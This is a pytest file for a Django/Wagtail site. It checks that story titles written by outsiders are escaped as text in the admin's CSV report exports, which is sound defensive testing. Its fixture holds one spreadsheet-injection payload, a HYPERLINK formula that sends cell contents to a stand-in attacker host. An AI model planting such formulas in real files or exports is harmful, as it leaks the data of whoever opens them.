"""What strangers write into a story is no formula in the CSV files of the admin."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from home.models import User
from stories import receiving
from tests.factories import SmallSite
from tests.stories.forms import story
from tests.stories.review import publish, signed_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("report", ["workflow", "workflow_tasks", "site_history", "aging_pages"])
def test_a_title_is_text(site: SmallSite, editor: User, reviewer: User, report: str) -> None:
    for title in (FORMULA, "Another"):
        page = receiving.submit(story(title=title))[0].page
        publish(signed_in(reviewer), page)
    response = signed_in(editor).get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
    cells = {cell for row in csv.reader(io.StringIO(response.getvalue().decode())) for cell in row}
    assert {f"'{FORMULA}", "Another"} <= cells
    assert not [cell for cell in cells if cell.startswith("=")]
